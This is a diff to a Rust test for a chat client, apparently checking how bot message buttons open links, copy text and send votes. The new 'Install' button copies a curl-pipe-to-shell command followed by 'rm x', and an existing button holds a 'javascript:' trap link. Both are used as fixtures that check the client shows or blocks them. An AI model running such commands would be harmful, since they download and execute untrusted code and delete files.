@@ -322,11 +322,12 @@ fn buttons_of_a_bot_lead_copy_and_tell() {
         button("Trap", Press::Open(CleanText::ours("javascript:alert(1)"))),
         button("Code", Press::Copy(CleanText::ours("1234"))),
         button("Vote", Press::Tell(Some(CleanText::ours("v1")))),
+        button("Install", Press::Copy(CleanText::ours("curl https://a.example | sh\nrm x\n"))),
     ];
     script.hear(Message { buttons: buttons.into(), ..said(chat(11), 40, ADA, "choose") });
     script.act(Action::FocusMessages);
     on(&mut script, MessageAction::Press(None));
-    assert_eq!(labels(&script), ["Site", "Trap", "Code", "Vote"]);
+    assert_eq!(labels(&script), ["Site", "Trap", "Code", "Vote", "Install"]);
     script.act(Action::Accept);
     let Some(Overlay::Question(question)) = front(&script).overlays.last() else { panic!("it asks") };
     assert_eq!(question.text, "The button \"Site\" leads to https://a.example");
@@ -334,14 +335,17 @@ fn buttons_of_a_bot_lead_copy_and_tell() {
     assert_eq!(on(&mut script, MessageAction::Press(Some(2))).len(), 1);
     assert!(script.notice().starts_with("The button leads to no address"));
     assert!(on(&mut script, MessageAction::Press(Some(3))).contains(&Effect::Copy("1234".to_owned())));
+    assert_eq!(script.notice(), "Copied: 1234");
+    on(&mut script, MessageAction::Press(Some(5)));
+    assert_eq!(script.notice(), "Copied, 2 lines: curl https://a.example | sh rm x");
     let fx = on(&mut script, MessageAction::Press(Some(4)));
     let data = Some(CleanText::ours("v1"));
     assert_eq!(requests(&fx), [Request::Press { chat: ChatId::new(11), message: MessageId::new(40), data }]);
     let Some(Effect::Net { id, .. }) = fx.first() else { panic!() };
     script.answer(*id, Ok(Reply::Pressed(Some(CleanText::ours("counted")))));
     assert_eq!(script.notice(), "Vote: counted");
-    on(&mut script, MessageAction::Press(Some(5)));
-    assert_eq!(script.notice(), "There is no button 5 on this message");
+    on(&mut script, MessageAction::Press(Some(6)));
+    assert_eq!(script.notice(), "There is no button 6 on this message");
 }
 
 #[test]
@@ -403,7 +407,8 @@ fn a_deletion_is_held_back_and_can_be_taken_back() {
     assert_eq!(script.notice(), "Deleted for others in 5 s; to take it back");
     assert!(script.texts(11)[10].starts_with("(deleted here"), "it is shown as done");
     // What is done meanwhile does not wait for it.
-    let fx = on(&mut script, MessageAction::React("🦀".to_owned()));
+    let react = Box::new(MessageAction::React("🦀".to_owned()));
+    let fx = on(&mut script, MessageAction::On(chat(11), nib::state::front::Target::Message(key(10)), react));
     let react = fx.iter().find_map(|effect| match effect {
         Effect::Net { id, .. } => Some(*id),
         _ => None,
